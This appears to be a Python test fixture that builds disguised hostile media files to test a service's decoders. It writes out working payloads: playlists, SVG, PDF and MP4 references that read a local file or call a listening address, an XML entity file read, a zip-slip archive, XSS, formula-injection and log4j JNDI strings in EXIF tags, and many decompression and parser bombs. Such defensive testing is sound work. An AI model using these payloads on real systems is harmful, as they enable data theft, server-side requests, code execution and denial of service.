"""Files that want to do harm, made by recipe: each names what it tries.

`Lure` is what they are after: a file beside them that nobody may open, and an address that nobody
may call.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from PIL import Image, PngImagePlugin

from tests.workers.media_recipes import clip, corners, photo

#: Bytes that a bomb claims or unpacks to: more than any limit that a decoder has here.
_BOMB = 3 << 30


@dataclass(frozen=True, kw_only=True)
class Lure:
    #: A playable clip that only its own asset may open.
    canary: Path
    #: host:port where somebody listens.
    address: str


@dataclass(frozen=True, kw_only=True)
class Hostile:
    #: As the sender calls it; its ending says what it pretends to be.
    name: str
    make: Callable[[Lure], bytes]
    #: False for what costs seconds to make or to refuse: `make torture-hostile`.
    quick: bool = True


def corpus(folder: Path) -> Iterator[Hostile]:
    """Every hostile file; `folder` takes what the recipes need meanwhile."""
    yield from _lists()
    yield from _markup()
    yield from _in_disguise()
    yield from _picture_bombs()
    yield from _clips(folder)


# --- what asks for another file or for the network -----------------------------------------------


def _lists() -> Iterator[Hostile]:
    texts = {
        "playlist.mp4": "#EXTM3U\n#EXTINF:9,\nfile://{canary}\n#EXT-X-ENDLIST\n",
        "playlist-net.mp4": "#EXTM3U\n#EXTINF:9,\nhttp://{address}/a.ts\n#EXT-X-ENDLIST\n",
        "playlist-key.mov": '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="http://{address}/k"\n'
        "#EXTINF:9,\n{canary}\n",
        "concat.mp4": "ffconcat version 1.0\nfile '{canary}'\n",
        "concat-bare.mkv": "file '{canary}'\nduration 1\n",
        "stream.avi": "[playlist]\nFile1={canary}\nNumberOfEntries=1\n",
        "dash.mp4": '<?xml version="1.0"?><MPD><Period><BaseURL>http://{address}/</BaseURL>'
        "</Period></MPD>",
        "smil.mov": '<smil><body><video src="{canary}"/></body></smil>',
        "session.mp4": "v=0\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n",
        "script.avs.avi": 'DirectShowSource("{canary}")\n',
        "hidden.ts": "\ufeff#EXTM3U\n#EXTINF:1,\n{canary}\n",
    }
    for name, text in texts.items():
        yield Hostile(
            name=name,
            make=lambda lure, text=text: text.format(
                canary=lure.canary, address=lure.address
            ).encode(),
        )
    # A start that passes for a clip, and the list behind it.
    for name, start in (
        ("list-behind-ftyp.mp4", _ftyp(b"isom")),
        ("list-behind-ebml.mkv", b"\x1aE\xdf\xa3\x80"),
        ("list-behind-riff.avi", b"RIFF\xff\xff\xff\xffAVI "),
        ("list-behind-sync.ts", b"\x47" + bytes(187)),
    ):
        yield Hostile(
            name=name,
            make=lambda lure, start=start: (
                start * (4 if start[:1] == b"\x47" else 1)
                + f"\n#EXTM3U\n#EXTINF:9,\nhttp://{lure.address}/\n{lure.canary}\n".encode()
            ),
        )


def _markup() -> Iterator[Hostile]:
    texts = {
        "drawing.jpg": '<svg xmlns="http://www.w3.org/2000/svg" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"><image width="9" height="9" '
        'xlink:href="file://{canary}"/><image xlink:href="http://{address}/x.png"/></svg>',
        "entity.svg": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{canary}">]>'
        "<svg><text>&x;</text></svg>",
        "drawing.mvg.png": "push graphic-context\nimage over 0,0 9,9 'http://{address}/x'\n"
        "pop graphic-context\n",
        "page.jpg": "<html><script src=http://{address}/x.js></script></html>",
        "paper.jpg": "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({canary}) run\n",
        "document.png": "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI"
        "(http://{address}/)>>>>endobj\n%%EOF",
    }
    for name, text in texts.items():
        yield Hostile(
            name=name,
            make=lambda lure, text=text: text.format(
                canary=lure.canary, address=lure.address
            ).encode(),
        )


def _in_disguise() -> Iterator[Hostile]:
    """Whole pictures that are something else besides, and something else that is no picture."""

    def packed() -> bytes:
        data = io.BytesIO()
        with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("../../escape.jpg", photo("JPEG").read())
            archive.writestr("zeros", bytes(50 << 20))
        return data.getvalue()

    def said(comment: str) -> bytes:
        return photo("JPEG", comment=comment.encode()).read()

    def tagged() -> bytes:
        exif = Image.Exif()
        exif[0x010F], exif[0x0110] = '=HYPERLINK("http://x")', "<script>alert(1)</script>"
        exif[0x013B], exif[0x8298] = "@SUM(1+1)*cmd|' /C calc'!A0", "{{7*7}}${jndi:ldap://x}"
        exif.get_ifd(0x8769)[0x9003] = "<img src=x onerror=alert(1)>"
        return photo("JPEG", exif=exif.tobytes()).read()

    yield Hostile(name="archive.jpg", make=lambda _: packed())
    yield Hostile(name="picture-and-archive.jpg", make=lambda _: said("x") + packed())
    yield Hostile(
        name="picture-and-page.jpg",
        make=lambda lure: said(f"*/</script><img src=http://{lure.address}/>/*"),
    )
    yield Hostile(name="picture-and-paper.jpg", make=lambda _: said("x") + b"%PDF-1.7\n%%EOF")
    yield Hostile(name="tags.jpg", make=lambda _: tagged())
    yield Hostile(name="script.gif", make=lambda _: b"GIF89a/*" + bytes(400) + b"*/=1;alert(1)")
    yield Hostile(name="program.jpg", make=lambda _: b"\x7fELF" + bytes(4000))
    yield Hostile(name="nothing.jpg", make=lambda _: b"")
    yield Hostile(name="zeros.mp4", make=lambda _: bytes(1 << 20))


# --- what wants all memory or all time -----------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    body = b"".join((png_chunk(b"IHDR", head), *chunks, png_chunk(b"IEND", b"")))
    return b"\x89PNG\r\n\x1a\n" + body


def _zeros(size: int) -> bytes:
    """So many zeros, packed a thousand to one."""
    pack = zlib.compressobj(9)
    piece = bytes(1 << 20)
    parts = [pack.compress(piece) for _ in range(size >> 20)]
    return b"".join((*parts, pack.flush()))


def _jpeg_of_scans(scans: int) -> bytes:
    """A progressive JPEG of which the last scan comes again and again."""
    data = photo("JPEG", corners(1600, 1200), progressive=True).read()
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * scans + b"\xff\xd9"


def _jpeg_sized(width: int, height: int) -> bytes:
    data = bytearray(photo("JPEG").read())
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def _gif_of_frames(frames: int) -> bytes:
    one = io.BytesIO()
    Image.new("P", (4000, 4000)).save(one, "GIF")
    data = one.getvalue()
    at = data.index(b",", 13 + 3 * (2 << (data[10] & 7)))
    return data[:at] + data[at:-1] * frames + b";"


def _tiff_in_circles() -> bytes:
    """Two directories, each naming the other as the next."""
    entry = struct.pack("<HHII", 256, 4, 1, 99) + struct.pack("<HHII", 257, 4, 1, 99)
    one = struct.pack("<H", 2) + entry + struct.pack("<I", 38)
    two = struct.pack("<H", 2) + entry + struct.pack("<I", 8)
    return b"II*\0" + struct.pack("<I", 8) + one + two


def _picture_bombs() -> Iterator[Hostile]:
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", "x")
    many = {
        "pixels.png": lambda: _png(60_000, 60_000, png_chunk(b"IDAT", _zeros(4 << 20))),
        "pixels-few-bytes.png": lambda: _png(
            29_000, 6_800, png_chunk(b"IDAT", _zeros(600 << 20)), depth=8, colour=2
        ),
        "text.png": lambda: _png(8, 8, png_chunk(b"iTXt", b"a\0\x01\0\0\0" + _zeros(_BOMB >> 3))),
        "text-latin.png": lambda: _png(8, 8, png_chunk(b"zTXt", b"a\0\0" + _zeros(_BOMB >> 3))),
        "profile.png": lambda: _png(8, 8, png_chunk(b"iCCP", b"a\0\0" + _zeros(_BOMB >> 3))),
        "length.png": lambda: _png(8, 8) + struct.pack(">I4s", 0x7FFFFFFF, b"IDAT"),
        "sides.jpg": lambda: _jpeg_sized(65_500, 65_500),
        "scans.jpg": lambda: _jpeg_of_scans(2_000),
        "frames.gif": lambda: _gif_of_frames(5_000),
        "screen.gif": lambda: b"GIF89a" + struct.pack("<HHBBB", 65_535, 65_535, 0, 0, 0) + b";",
        "circles.tif": _tiff_in_circles,
        "tags.tif": lambda: b"II*\0\x08\0\0\0\xff\xff" + bytes(12 * 65_535),
        "boxes.heic": lambda: _nested(b"meta", 4000, _ftyp(b"heic")),
        "length.webp": lambda: b"RIFF\xff\xff\xff\xffWEBPVP8X\x0a\0\0\0" + bytes(4) + b"\xff" * 6,
    }
    slow = {
        "pixels-few-bytes.png",
        "text.png",
        "text-latin.png",
        "profile.png",
        "frames.gif",
        "scans.jpg",
    }
    for name, make in many.items():
        yield Hostile(name=name, make=lambda _, make=make: make(), quick=name not in slow)


def _ftyp(brand: bytes) -> bytes:
    return struct.pack(">I4s4sI", 16, b"ftyp", brand, 0)


def _nested(kind: bytes, deep: int, start: bytes) -> bytes:
    """Boxes in boxes: sizes shrink by 8 as they go in."""
    sizes = range(8 * deep, 0, -8)
    return start + b"".join(struct.pack(">I4s", size, kind) for size in sizes)


def _clips(folder: Path) -> Iterator[Hostile]:
    whole = clip(folder / "whole.mp4").read_bytes()
    yield from _tables(whole)
    yield Hostile(
        name="refers-elsewhere.mov", make=lambda lure: _referring(whole, f"file://{lure.canary}")
    )
    yield Hostile(
        name="refers-to-net.mov", make=lambda lure: _referring(whole, f"http://{lure.address}/")
    )
    moov = _nested(b"moov", 20_000, _ftyp(b"isom"))
    yield Hostile(name="boxes.mp4", make=lambda _: moov)
    cluster = b"\x1aE\xdf\xa3\x80\x18S\x80g\x01" + b"\xff" * 4000
    yield Hostile(name="endless-cluster.mkv", make=lambda _: cluster)
    for number, at in enumerate(sorted({*box_edges(whole)})):
        for part in (at, at + 4, at + 9):
            if part < len(whole):
                yield Hostile(
                    name=f"cut-{number:02d}-at-{part}.mp4",
                    make=lambda _, part=part: whole[:part],
                    quick=part == at and number % 9 == 3,
                )


def _tables(whole: bytes) -> Iterator[Hostile]:
    """Counts in the sample tables that promise four thousand million entries."""
    for kind, place in ((b"stsz", 12), (b"stts", 8), (b"stsc", 8), (b"stco", 8), (b"elst", 8)):
        at = whole.find(kind)
        if at >= 0:
            data = bytearray(whole)
            data[at + place : at + place + 4] = b"\xff\xff\xff\xf0"
            yield Hostile(name=f"table-{kind.decode()}.mp4", make=lambda _, data=bytes(data): data)
    timescale = bytearray(whole)
    at = whole.index(b"mdhd")
    timescale[at + 16 : at + 24] = struct.pack(">II", 1, 0xFFFFFFF0)
    yield Hostile(name="long.mp4", make=lambda _: bytes(timescale))
    one_size = bytearray(whole)
    at = whole.index(b"stsz")
    one_size[at + 8 : at + 16] = struct.pack(">II", 1, 0x7FFFFFFF)
    yield Hostile(name="table-one-size.mp4", make=lambda _: bytes(one_size))


_HOLDERS = frozenset({b"moov", b"trak", b"mdia", b"minf", b"dinf", b"stbl", b"edts", b"udta"})


def box_edges(data: bytes, start: int = 0, end: int | None = None) -> Iterator[int]:
    """Where each box begins, those inside others too."""
    at, end = start, len(data) if end is None else end
    while at + 8 <= end:
        size, kind = struct.unpack(">I4s", data[at : at + 8])
        yield at
        if kind in _HOLDERS:
            yield from box_edges(data, at + 8, at + size)
        at += max(size, 8)


def _referring(whole: bytes, url: str) -> bytes:
    """The clip with its pictures said to lie at another address (`dref` not self-contained)."""
    entry = url.encode() + b"\0"
    box = struct.pack(">I4sI", 12 + len(entry), b"url ", 0) + entry
    added = len(box) - 12
    edges = list(box_edges(whole))
    dref = whole.index(b"dref") - 4
    data = bytearray(whole)
    for at in edges:
        size, kind = struct.unpack(">I4s", whole[at : at + 8])
        if (kind in _HOLDERS and at < dref < at + size) or at == dref:
            data[at : at + 4] = struct.pack(">I", size + added)
    first = dref + 16
    return bytes(data[:first]) + box + bytes(data[first + 12 :])
